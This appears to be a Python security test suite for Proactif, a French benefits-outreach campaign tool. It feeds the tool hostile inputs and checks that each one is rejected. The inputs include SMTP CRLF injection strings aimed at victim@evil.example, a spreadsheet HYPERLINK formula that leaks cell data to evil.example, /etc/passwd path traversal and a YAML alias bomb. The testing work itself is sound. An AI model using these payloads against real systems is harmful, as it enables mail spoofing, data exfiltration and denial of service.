"""Safe under bad input, faults and attack, end to end, one class at a time
(README "Reliability" counts what is tried here):
 - injection: CR/LF and look-alike addresses in an extract never reach the
   SMTP conversation; only smtp/smtps (STARTTLS by default) and https (http
   on loopback) endpoints; campaign and mapping paths stay in their folder;
   spreadsheet formulas in rejected values are written as text; a header
   mismatch never echoes the file's first line;
 - out-of-domain values: infinite, negative, sub-cent, future and ancient
   values, duplicate keys, text after the object: rejected with line and field;
 - silent loss: output to a full device fails the command; a CSV with CR line
   ends is refused; ingest says when rows were set aside;
 - lost safety decisions: a refusal or objection that cannot be read exactly
   is rejected, nothing is transmitted on a guess;
 - duplicates and locks: a second path to the store (symbolic or hard link) finds the delivery lock;
   an email sent with no answer is held, not sent again by itself;
 - crashes: bad numbers on the command line, oversized populations, alias
   bombs, devices as files, deep formulas: clear errors, no abort;
 - exposure: files created 0600 (folders 0700) under umask 022, or, in a
   letters folder shared with a group, 0640 of that group (folder 2750); a
   PostgreSQL password never printed; the audit names the OS user."""
import csv
import grp
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from harness import BINARY, MESSAGE_FIELDS, SOURCE, campaign_head, check, finish, run, temp_file, work_dir  # noqa: E402
from servers import SmtpSink, query, self_signed_certificate, wait_for_delivery_lock  # noqa: E402

os.umask(0o022)  # the usual umask: Proactif must not rely on a stricter one
work = work_dir("proactif-hostile-")
tried = {}


def tried_one(kind):
    tried[kind] = tried.get(kind, 0) + 1


r = run("synth", "--territory", "200040715", "--households", "400", "--seed", "3", "--out",
        os.path.join(work, "extracts"))
check(r.returncode == 0, r.stderr)
mappings = [os.path.join("extracts", m + ".yaml") for m in ["caf", "cpam", "crous", "universites", "dgfip"]]

# --- Injection through contact details --------------------------------------
INJECTIONS = [
    "x@courriel.example\r\nRCPT TO:<victim@evil.example>",
    "x@courriel.example>\r\nDATA\r\nSubject: confirmez vos coordonnées bancaires\r\n.\r\n",
    "x@courriel.example\nBcc: victim@evil.example",
    "\"quoted\"@evil.example",
    "x@courriel.example, victim@evil.example",
    "victim@evil.example\x00@courriel.example",
    "<victim@evil.example>",
    "x@evil..example",
]
caf = os.path.join(work, "extracts", "caf.csv")
with open(caf, encoding="cp1252", newline="") as f:
    rows = list(csv.reader(f, delimiter=";"))
header = rows[0]
clean_rows = [list(row) for row in rows]
# A formula in a number the C2S reads (the housing benefit): a column the
# campaign does not read sets no row aside, and reaches no rejects file.
email_col, address_col, amount_col = header.index("COURRIEL"), header.index("ADRESSE"), header.index("MTAL")
injected = 0
for row in rows[1:]:
    if row[email_col] and injected < len(INJECTIONS):
        row[email_col] = INJECTIONS[injected]
        injected += 1
        tried_one("injection")
rows[3][address_col] = "1 rue Pasteur\nMadame la Directrice"
rows[4][amount_col] = '=HYPERLINK("http://evil.example/?"&A1;"ouvrir")'
tried_one("injection")
tried_one("injection")
with open(caf, "w", encoding="cp1252", newline="") as f:
    csv.writer(f, delimiter=";", lineterminator="\n").writerows(rows)
check(injected == len(INJECTIONS), f"{injected} addresses injected")


def campaign(name, extra="", email=None, channels="email, letter"):
    path = os.path.join(work, name + ".yaml")
    email = email or "{smtp: \"%s\", from: droits@grenoble.example, starttls: false}" % sink.url
    with open(path, "w", encoding="utf-8") as f:
        f.write(campaign_head(name) + f"""population:
  mappings: [{", ".join(mappings)}]
programs:
  c2s: {{already_receiving: {{c2s: [free, participation]}}}}
work_dir: work-{name}
channels: [{channels}]
email: {email}
letters: {{folder: letters-{name}}}
{extra}""")
    return path


sink = SmtpSink(os.path.join(work, "mail"))
store = "sqlite:" + os.path.join(work, "s.db")
path = campaign("injection")
r = run("campaign", "run", "--past-date", path, "--store", store, "--wait", "5")
check(r.returncode == 0, r.stdout + r.stderr)
envelopes = sink.envelopes()
check(len(envelopes) > 0, "no email went out")
valid = re.compile(r"^'[a-z0-9.+-]+@courriel\.example'$")
bad = [e for e in envelopes if len(e[1]) != 1 or not valid.match(e[1][0])]
check(not bad, f"an envelope the extract wrote: {bad[:3]}")
check(all("evil" not in open(os.path.join(sink.folder, n), encoding="utf-8", errors="replace").read()
          for n in os.listdir(sink.folder) if n.endswith(".eml")), "injected text in a stored message")
check("courriel.example" not in r.stdout + r.stderr, "an address printed")
letters = os.path.join(work, "letters-injection")
check(len(os.listdir(letters)) > 0, "no letter written")
rejects = os.path.join(work, "work-injection", "rejects", "caf.rejects.csv")
with open(rejects, encoding="utf-8") as f:
    values = [x["value"] for x in csv.DictReader(f, delimiter=";")]
check(any(v.startswith("'=HYPERLINK") for v in values) and not any(v.startswith("=") for v in values),
      f"a formula written as a formula: {values}")

# --- Injection through endpoints and paths ----------------------------------
ENDPOINTS = [
    ("email", '{smtp: "file:///etc/passwd", from: a@b.example}', "'file' URLs are not accepted"),
    ("email", '{smtp: "smtp://mail.example.org:25", from: a@b.example, starttls: false}', "in clear"),
    ("email", '{smtp: "smtp://127.0.0.1.nip.io:25", from: a@b.example, starttls: false}', "in clear"),
    ("email", '{smtp: "smtp://localhost:25", from: a@b.example, starttls: false}', "in clear"),
    ("email", '{smtp: "http://127.0.0.1:25", from: a@b.example}', "'http' URLs are not accepted"),
    ("email", '{smtp: "not a url", from: a@b.example}', "is not a URL"),
    ("email", '{smtp: "smtp://127.0.0.1:25", from: "a@b.example\\r\\nRCPT TO:<x@evil.example>"}',
     "is not an email address"),
    ("sms", '{provider: "http://sms.example.org/send", sender: CAF38}', "in clear"),
    ("sms", '{provider: "ftp://sms.example.org/send", sender: CAF38}', "'ftp' URLs are not accepted"),
    ("sms", '{provider: "https://sms.example.org/send", sender: "CAF38 urgent"}', "sender: 1 to 11"),
    ("transmission", '{to: CPAM, to_with_article: la CPAM, departements: ["38"], http: "gopher://127.0.0.1/"}', "'gopher' URLs are not accepted"),
]
for key, value, message in ENDPOINTS:
    tried_one("injection")
    text = open(campaign("endpoint"), encoding="utf-8").read()
    if key == "email":
        text = re.sub(r"^email: .*$", f"email: {value}", text, flags=re.M)
    else:
        text += f"{key}: {value}\n"
    if key == "sms":
        text = text.replace("channels: [email, letter]", "channels: [sms, letter]")
    open(os.path.join(work, "endpoint.yaml"), "w", encoding="utf-8").write(text)
    r = run("campaign", "run", "--past-date", os.path.join(work, "endpoint.yaml"), "--store", store)
    check(r.returncode == 2 and message in r.stderr, f"{key} {value}: {r.returncode} {r.stderr}")
# A period that is not a month: the requests of the year before it could
# not be looked up.
for period in ['"2025-13"', '"juin 2025"', '"2025-6"']:
    text = re.sub(r'^period: .*$', f"period: {period}", open(campaign("period"), encoding="utf-8").read(), flags=re.M)
    open(os.path.join(work, "period.yaml"), "w", encoding="utf-8").write(text)
    r = run("campaign", "run", "--past-date", os.path.join(work, "period.yaml"), "--store", store)
    check(r.returncode == 2 and "period must be a month YYYY-MM that exists" in r.stderr, f"{period}: {r.returncode} {r.stderr}")
# STARTTLS by default: a plain server (this one) gets nothing in clear.
before = len(sink.envelopes())
path = campaign("tls", email='{smtp: "%s", from: a@test.example}' % sink.url, channels="email")
tls_store = "sqlite:" + os.path.join(work, "tls.db")
r = run("campaign", "run", "--past-date", path, "--store", tls_store, "--wait", "1")
tried_one("injection")
errors = query(tls_store, "SELECT COUNT(*), MIN(last_error) FROM outbox WHERE channel = 'email' AND state <> 'delivered'")
check(len(sink.envelopes()) == before and int(errors[0][0]) > 0 and "SSL" in errors[0][1], f"{errors} {r.stdout}")
# A relay that speaks TLS (STARTTLS required before any mail, or smtps), with
# a certificate of its own authority: given that authority (ca_file), every
# email goes over TLS; without it, or with a certificate for another name,
# none goes at all, in clear or otherwise.
cert, key = self_signed_certificate(os.path.join(work, "pki"))
other_cert, other_key = os.path.join(work, "pki", "other.pem"), os.path.join(work, "pki", "other.key")
subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", other_key, "-out", other_cert,
                "-days", "2", "-subj", "/CN=relay.other.example", "-addext", "subjectAltName=DNS:relay.other.example"],
               check=True, capture_output=True)
for label, implicit, pem, served_by, delivered in (("starttls", False, cert, (cert, key), True),
                                                   ("smtps", True, cert, (cert, key), True),
                                                   ("untrusted", False, None, (cert, key), False),
                                                   ("wrong-name", False, other_cert, (other_cert, other_key), False)):
    tried_one("injection")
    relay = SmtpSink(os.path.join(work, "mail-" + label), tls=served_by, implicit=implicit)
    trust = ", ca_file: %s" % os.path.relpath(pem, work) if pem else ""
    path = campaign("tls-" + label, email='{smtp: "%s", from: a@test.example%s}' % (relay.url, trust), channels="email",
                    extra="delivery: {max_attempts: 1, first_retry_seconds: 0.1}\n")
    tls_store = "sqlite:" + os.path.join(work, "tls-%s.db" % label)
    r = run("campaign", "run", "--past-date", path, "--store", tls_store, "--wait", "3")
    taken = relay.over_tls()
    states = dict(query(tls_store, "SELECT state, COUNT(*) FROM outbox WHERE channel = 'email' GROUP BY state"))
    if delivered:
        check(r.returncode == 0 and len(taken) > 0 and set(taken.values()) == {"tls"} and
              set(states) == {"delivered"} and int(states["delivered"]) == len(taken),
              f"{label}: {states} {taken} {r.stdout[-400:]} {r.stderr[-400:]}")
    else:
        errors = query(tls_store, "SELECT MIN(last_error) FROM outbox WHERE channel = 'email'")
        check(not taken and "delivered" not in states and "certificate" in (errors[0][0] or "").lower(),
              f"{label}: {states} {taken} {errors}")
    relay.stop()
PATHS = [("work_dir: work-p", "work_dir: ../elsewhere"), ("work_dir: work-p", "work_dir: /tmp"),
         ("letters: {folder: letters-p}", "letters: {folder: /etc/cron.d}"),
         ("letters: {folder: letters-p}", "letters: {folder: extracts/../../x}")]
for before, after in PATHS:
    tried_one("injection")
    text = open(campaign("p"), encoding="utf-8").read().replace(before, after)
    open(os.path.join(work, "p.yaml"), "w", encoding="utf-8").write(text)
    r = run("campaign", "run", "--past-date", os.path.join(work, "p.yaml"), "--store", store)
    check(r.returncode == 2 and "leads outside" in r.stderr, f"{after}: {r.returncode} {r.stderr}")
# Listed, the same folder is allowed.
outside = os.path.basename(work) + "-outside"
text = open(campaign("p"), encoding="utf-8").read().replace("work_dir: work-p", f"work_dir: ../{outside}")
text += f"paths_outside: [../{outside}]\n"
open(os.path.join(work, "p.yaml"), "w", encoding="utf-8").write(text)
r = run("campaign", "run", "--past-date", os.path.join(work, "p.yaml"), "--store", store, "--plan-only")
check(r.returncode == 0 and os.path.isdir(os.path.join(os.path.dirname(work), outside)), r.stderr)
shutil.rmtree(os.path.join(os.path.dirname(work), outside), ignore_errors=True)
# A mapping pointed at a file outside its folder; a header mismatch never
# prints the file's first line (here: a person's row).
mapping = open(os.path.join(work, "extracts", "caf.yaml"), encoding="utf-8").read()
for target in ["/etc/passwd", "../../etc/passwd"]:
    tried_one("injection")
    open(os.path.join(work, "extracts", "evil.yaml"), "w", encoding="utf-8").write(
        re.sub(r"^file: .*$", f"file: {target}", mapping, flags=re.M))
    r = run("ingest", os.path.join(work, "extracts", "evil.yaml"), "--rejects-dir", os.path.join(work, "rj"),
            "--review", os.path.join(work, "rv.csv"))
    check(r.returncode == 2 and "leads outside" in r.stderr and "root" not in r.stderr, r.stderr)
headless = os.path.join(work, "extracts", "headless.csv")
open(headless, "w", encoding="cp1252").write("".join(";".join(row) + "\n" for row in clean_rows[1:4]))
open(os.path.join(work, "extracts", "headless.yaml"), "w", encoding="utf-8").write(
    re.sub(r"^file: .*$", "file: headless.csv", mapping, flags=re.M))
r = run("ingest", os.path.join(work, "extracts", "headless.yaml"), "--rejects-dir", os.path.join(work, "rj"),
        "--review", os.path.join(work, "rv.csv"))
tried_one("exposure")
check(r.returncode == 2 and "header does not match" in r.stderr and clean_rows[1][header.index("NIR")] not in r.stderr
      and clean_rows[1][header.index("NOM_NAISSANCE")] not in r.stderr, r.stderr)

# --- Out-of-domain values ----------------------------------------------------
def situation(sid, **changes):
    person = {"id": "p1", "role": "applicant", "birth_date": "1990-04-02", "resources_12m": 7200,
              "resources_3m": 1800, "student": False}
    person.update(changes)
    return json.dumps({"id": sid, "date": "2025-06-15", "persons": [person],
                       "household": {"commune": "38185", "housing": "tenant", "housing_benefit_monthly": 0,
                                     "rsa": False}})


lines = [situation("ok"),
         situation("inf", resources_12m=1.7e308).replace("1.7e+308", "1.7e308"),
         situation("huge", resources_12m=1e300),
         situation("negative", resources_3m=-50000),
         situation("cents", resources_3m=1800.125),
         situation("future", birth_date="2030-01-01"),
         situation("ancient", birth_date="0001-01-01"),
         situation("dupkey")[:-1] + ', "id": "again"}',
         situation("dupfield").replace('"resources_3m": 1800', '"resources_3m": 1800, "resources_3m": 0'),
         situation("two") + " " + situation("objects"),
         situation("dupperson").replace('"persons": [', '"persons": [{"id": "p1", "role": "spouse"}, '),
         situation("bigint").replace('"resources_3m": 1800', '"resources_3m": 1' + "0" * 400)]
path = temp_file("\n".join(lines) + "\n")
r = run("evaluate", "--program", "c2s", "--program", "rsa", "--situations", path)
got = {json.loads(x)["situation"] for x in r.stdout.splitlines()}
check(r.returncode == 1 and got == {"ok"}, f"decided on out-of-domain values: {sorted(got)}; {r.stderr}")
for n, reason in [(2, "above the maximum"), (3, "above the maximum"), (4, "below the minimum 0"),
                  (5, "two decimals"), (6, "a date after 2025-06-15"), (7, "150 years before|not a valid date"),
                  (8, "given twice"), (9, "given twice"), (10, "text after"), (11, "two persons"),
                  (12, "number|JSON")]:
    tried_one("domain")
    check(re.search(rf"line {n}: .*({reason})", r.stderr), f"line {n}: {reason} not in {r.stderr}")

# --- Silent loss -------------------------------------------------------------
for args in (["evaluate", "--program", "c2s", "--situations", os.path.join(SOURCE, "examples", "situations.jsonl")],
             ["explain", "--program", "c2s", "--situations", os.path.join(SOURCE, "examples", "situations.jsonl")],
             ["audit", "--store", store], ["campaign", "report", os.path.join(work, "injection.yaml"), "--store", store],
             ["--help"]):
    tried_one("loss")
    with open("/dev/full", "w") as full:
        p = subprocess.run([BINARY, *args], stdout=full, stderr=subprocess.PIPE, text=True)
    check(p.returncode not in (0, 1) and "not all" in p.stderr, f"{args[0]} > /dev/full: {p.returncode} {p.stderr}")
cr_only = os.path.join(work, "extracts", "cr.csv")
open(cr_only, "w", encoding="cp1252", newline="").write("\r".join(";".join(row) for row in clean_rows[:5]) + "\r")
open(os.path.join(work, "extracts", "cr.yaml"), "w", encoding="utf-8").write(
    re.sub(r"^file: .*$", "file: cr.csv", mapping, flags=re.M))
r = run("ingest", os.path.join(work, "extracts", "cr.yaml"), "--rejects-dir", os.path.join(work, "rj"),
        "--review", os.path.join(work, "rv.csv"))
tried_one("loss")
check(r.returncode == 2 and "carriage return alone" in r.stderr, f"{r.returncode} {r.stderr}")

# --- Lost safety decisions ---------------------------------------------------
events_rules = os.path.join(work, "events.yaml")
open(events_rules, "w", encoding="utf-8").write("""id: c2s-rsa
title: C2S avec le RSA
sender: CAF
how_to_object: écrivez à dpo@caf.example
{MESSAGE_FIELDS}events:
  rsa_granted:
    programs:
      c2s: {eligible: grant, undetermined: nothing, already_receiving: {c2s: [free, participation]}}
transmission: {to: CPAM, to_with_article: la CPAM, departements: ["38"], drop_folder: cpam}
channels: [letter]
letters: {folder: letters-events}
""".replace("{MESSAGE_FIELDS}", MESSAGE_FIELDS))
event = json.loads(open(os.path.join(SOURCE, "examples", "events-rsa.jsonl"), encoding="utf-8").readline())
event.setdefault("contact", {"address": "1 rue Pasteur", "town": "38000 GRENOBLE", "name": "TEST"})
bad_events = []
for refuses in ["c2s", ["c2z"], [1], {"c2s": True}]:
    bad_events.append(json.dumps(dict(event, refuses=refuses)))
# A second, empty "refuses" after the first; a misspelt key; another object after it.
bad_events.append(json.dumps(dict(event, refuses=["c2s"]))[:-1] + ', "refuses": []}')
bad_events.append(json.dumps(dict(event, refuse=["c2s"])))
bad_events.append(json.dumps(event) + ' {"refuses": ["c2s"]}')
tried["safety"] = tried.get("safety", 0) + len(bad_events)
r = run("event", "--past-date", temp_file("\n".join(bad_events) + "\n"), "--rules", events_rules, "--store", store)
rejected = {int(n) for n in re.findall(r"line (\d+):", r.stderr)}
check(r.returncode != 0 and rejected == set(range(1, len(bad_events) + 1)), f"{rejected}: {r.stdout} {r.stderr}")
cpam = os.path.join(work, "cpam")
check(not os.path.isdir(cpam) or not any(n.endswith(".jsonl") for n in os.listdir(cpam)), "a request was sent")
r = run("object", "--subject", "CAF:A1000001", "--program", "c2z", "--origin", "test", "--store", store)
tried_one("safety")
check(r.returncode == 2 and "not a program" in r.stderr, r.stderr)

# --- Duplicates and locks ----------------------------------------------------
# A second path to the same store (a symbolic link) finds the first one's lock.
refusing = SmtpSink(os.path.join(work, "mail451"), refuse="451")
lock_store = os.path.join(work, "lock.db")
path = campaign("lock", email='{smtp: "%s", from: a@test.example, starttls: false}' % refusing.url, channels="email")
r = run("campaign", "run", "--past-date", path, "--store", "sqlite:" + lock_store, "--plan-only")
os.symlink(lock_store, os.path.join(work, "link.db"))
first = subprocess.Popen([BINARY, "campaign", "deliver", path, "--store", "sqlite:" + lock_store, "--wait", "8"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
check(wait_for_delivery_lock("sqlite:" + lock_store, first), "the first deliverer never held the store's lock")
# And a hard link, which has a path of its own.
os.link(lock_store, os.path.join(work, "hard.db"))
for second in ("link.db", "hard.db"):
    r = run("campaign", "deliver", path, "--store", "sqlite:" + os.path.join(work, second))
    tried_one("duplicates")
    check(r.returncode == 2 and "another proactif is delivering" in r.stderr, second + ": " + r.stdout + r.stderr)
first.wait()
refusing.stop()
# A server that answers after the client gave up: each email arrives once and
# is held, not sent again by itself (nor by requeue); the operator settles it.
slow = SmtpSink(os.path.join(work, "mail-slow"), slow=4)
slow_store = "sqlite:" + os.path.join(work, "slow.db")
# The email channel's own timeouts (2 s) over the delivery's (30 s).
path = campaign("slow", email='{smtp: "%s", from: a@test.example, starttls: false, timeouts: {connect: 1, send: 2}}'
                % slow.url, channels="email",
                extra="delivery: {workers: 2, connect_timeout_seconds: 5, send_timeout_seconds: 30, "
                      "first_retry_seconds: 0.1}\n")
r = run("campaign", "run", "--past-date", path, "--store", slow_store, "--plan-only")
ids = [c for c, in query(slow_store, "SELECT verification_code FROM outbox WHERE channel = 'email' LIMIT 3")]
query(slow_store, "DELETE FROM outbox WHERE channel = 'email' AND verification_code NOT IN ('%s')" % "','".join(ids))
# The wait covers the retries of a send that failed before its message was
# whole (a slow machine): failed retries do not start it again.
r = run("campaign", "deliver", path, "--store", slow_store, "--wait", "60")
tried_one("duplicates")
held = int(query(slow_store, "SELECT COUNT(*) FROM outbox WHERE state = 'held' AND in_doubt = 1")[0][0])
check(r.returncode == 1 and held == len(ids) and "held" in r.stdout, f"{held} held: {r.stdout} {r.stderr}")
run("campaign", "requeue", path, "--store", slow_store)
r = run("campaign", "deliver", path, "--store", slow_store, "--wait", "1")
time.sleep(5)  # the server's last answers
arrived = [m for m, _ in slow.envelopes()]
check(len(arrived) == len(set(arrived)) == len(ids) and not os.path.exists(os.path.join(slow.folder, "duplicates.log")),
      f"{len(arrived)} arrivals for {len(ids)} emails")
# The operator lists what is held and settles message by message (a mail
# log says which arrived), or the rest at once; a code not held is refused.
r = run("campaign", "settle", path, "--list", "--store", slow_store)
listed = [line.split()[0] for line in r.stdout.splitlines() if line and not line.endswith("held sends")]
check(r.returncode == 0 and sorted(listed) == sorted(ids) and f"{len(ids)} held sends" in r.stdout, r.stdout + r.stderr)
r = run("campaign", "settle", path, "--arrived", "--code", ids[0], "--store", slow_store)
check(r.returncode == 0 and "1 held sends recorded as arrived" in r.stdout, r.stdout + r.stderr)
r = run("campaign", "settle", path, "--send-again", "--code", ids[1], "--code", "ZZZZ-ZZZZ-ZZZZ", "--store", slow_store)
check(r.returncode == 2 and "ZZZZ-ZZZZ-ZZZZ: no send held with this code" in r.stderr, r.stdout + r.stderr)
check(query(slow_store, "SELECT state FROM outbox WHERE verification_code = '%s'" % ids[1])[0][0] == "held",
      "a refused settlement changed a held send")
r = run("campaign", "settle", path, "--arrived", "--store", slow_store)
check(r.returncode == 0 and f"{len(ids) - 1} held sends recorded as arrived" in r.stdout, r.stdout + r.stderr)
states = query(slow_store, "SELECT DISTINCT state FROM outbox WHERE verification_code IN ('%s')" % "','".join(ids))
check(states == [("delivered",)], f"{states}")
slow.stop()

# --- Crashes and resource exhaustion -----------------------------------------
# Refused before anything runs, the option named.
for args, message in [(["campaign", "run", "--past-date", os.path.join(work, "injection.yaml"), "--wait", "abc"], "--wait"),
                      (["campaign", "run", "--past-date", os.path.join(work, "injection.yaml"), "--wait", "1e400"], "--wait"),
                      (["synth", "--territory", "38", "--households", "100000000000", "--seed", "1", "--out",
                        os.path.join(work, "big")], "--households"),
                      (["campaign", "truth", os.path.join(work, "injection.yaml"), "--households", "-5"], "--households")]:
    tried_one("crash")
    r = run(*args)
    check(r.returncode == 2 and message in r.stderr, f"{args}: {r.returncode} {r.stderr}")
bomb = os.path.join(work, "bomb.yaml")
open(bomb, "w").write("id: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" +
                      "".join(f"l{i}: &l{i} [{', '.join(['*' + ('a' if i == 0 else f'l{i-1}')] * 9)}]\n"
                              for i in range(9)))
big_synth = open(campaign("big"), encoding="utf-8").read().replace(
    f"mappings: [{', '.join(mappings)}]", 'synthetic: {territory: "38", households: 100000000000}')
open(os.path.join(work, "big.yaml"), "w", encoding="utf-8").write(big_synth)
for path, message in [(bomb, "aliases"), ("/dev/zero", "not a regular file"),
                      (os.path.join(work, "big.yaml"), "households: from 1 to 10 000 000")]:
    tried_one("crash")
    r = run("campaign", "run", "--past-date", path, "--store", store)
    check(r.returncode == 2 and message in r.stderr, f"{path}: {r.returncode} {r.stderr}")
programs = os.path.join(work, "programs")
shutil.copytree(os.path.join(SOURCE, "programs"), programs)
base = open(os.path.join(programs, "c2s", "program.yaml"), encoding="utf-8").read()
for name, change, message in [
        ("parens", lambda t: t.replace("\nvariables:\n", "\nvariables:\n  deep: {entity: household, type: number, "
                                       "formula: \"" + "(" * 5000 + "1" + ")" * 5000 + "\"}\n", 1), "tokens"),
        ("nested", lambda t: t.replace("\nvariables:\n", "\nvariables:\n  deep: {entity: household, type: number, "
                                       "formula: \"" + "(" * 100 + "1" + ")" * 100 + "\"}\n", 1), "nested"),
        ("chain", lambda t: t.replace("\nvariables:\n", "\nvariables:\n  long: {entity: household, type: number, "
                                      "formula: \"1" + " + 1" * 20000 + "\"}\n", 1), "tokens"),
        ("zero", lambda t: t.replace("include: [", "include: [/dev/zero, "), "not a regular file")]:
    tried_one("crash")
    os.makedirs(os.path.join(programs, name), exist_ok=True)
    open(os.path.join(programs, name, "program.yaml"), "w", encoding="utf-8").write(
        change(base.replace("id: c2s", f"id: {name}")))
    p = subprocess.run([BINARY, "check", name], capture_output=True, text=True,
                       env=dict(os.environ, PROACTIF_PROGRAMS=programs))
    check(p.returncode != 0 and p.returncode < 64 and message in p.stderr + p.stdout,
          f"{name}: {p.returncode} {p.stderr[-300:]}")

# --- Personal data exposure --------------------------------------------------
tried_one("exposure")
private = [os.path.join(work, "s.db"), rejects, os.path.join(work, "work-injection", "review.csv")]
private += [os.path.join(letters, n) for n in os.listdir(letters)[:3]]
for f in private:
    mode = stat.S_IMODE(os.stat(f).st_mode)
    check(mode == 0o600, f"{f}: mode {oct(mode)}")
for d in [os.path.join(work, "work-injection"), os.path.join(work, "work-injection", "rejects"), letters]:
    mode = stat.S_IMODE(os.stat(d).st_mode)
    check(mode == 0o700, f"{d}: mode {oct(mode)}")
# A letters folder shared with the printing service's group: the folder
# 2750 and the letters 0640 of that group, nothing for others; a group that
# does not exist is refused before anything is planned.
share_gid = grp.getgrnam("daemon").gr_gid if os.geteuid() == 0 else os.getegid()
for group, expect_ok in ((grp.getgrgid(share_gid).gr_name, True), ("no-such-group-proactif", False)):
    tried_one("exposure")
    text = open(campaign("shared", channels="letter"), encoding="utf-8").read().replace(
        "letters: {folder: letters-shared}", "letters: {folder: spool/letters-shared, group: %s}" % group)
    open(os.path.join(work, "shared.yaml"), "w", encoding="utf-8").write(text)
    shared_store = "sqlite:" + os.path.join(work, "shared-%s.db" % expect_ok)
    r = run("campaign", "run", "--past-date", os.path.join(work, "shared.yaml"), "--store", shared_store, "--wait", "5")
    shared = os.path.join(work, "spool", "letters-shared")
    if not expect_ok:
        check(r.returncode == 2 and "group 'no-such-group-proactif' is not a group of this machine" in r.stderr,
              r.stdout + r.stderr)
        continue
    check(r.returncode == 0, r.stdout + r.stderr)
    folder = os.stat(shared)
    check(stat.S_IMODE(folder.st_mode) == 0o2750 and folder.st_gid == share_gid, f"{oct(folder.st_mode)} {folder.st_gid}")
    spool = os.stat(os.path.join(work, "spool"))
    check(stat.S_IMODE(spool.st_mode) == 0o2710 and spool.st_gid == share_gid, f"spool {oct(spool.st_mode)}")
    pdfs = [os.stat(os.path.join(shared, n)) for n in os.listdir(shared) if n.endswith(".pdf")]
    check(len(pdfs) > 0 and all(stat.S_IMODE(f.st_mode) == 0o640 and f.st_gid == share_gid for f in pdfs),
          f"{len(pdfs)} letters: {sorted({(oct(f.st_mode), f.st_gid) for f in pdfs})}")
for url in ["postgresql://u:s3cret@127.0.0.1:1/db", "postgresql://u@127.0.0.1:1/db?password=s3cret&sslmode=disable",
            "postgresql://u@127.0.0.1:1/db?sslmode=disable&PASSWORD=s3cret"]:
    tried_one("exposure")
    r = run("audit", "--store", url)
    check(r.returncode == 2 and "s3cret" not in r.stderr, r.stderr)
p = subprocess.run([BINARY, "verify", "ABCD-EFGH-JKLM", "--store", store], capture_output=True, text=True,
                   env=dict(os.environ, USER="mallory", LOGNAME="mallory"))
r = run("audit", "--store", store)
tried_one("exposure")
check(f"uid {os.getuid()}" in r.stdout and "mallory" not in r.stdout, r.stdout[-600:])

sink.stop()
print("tried: " + ", ".join(f"{k} {v}" for k, v in sorted(tried.items())))
finish()
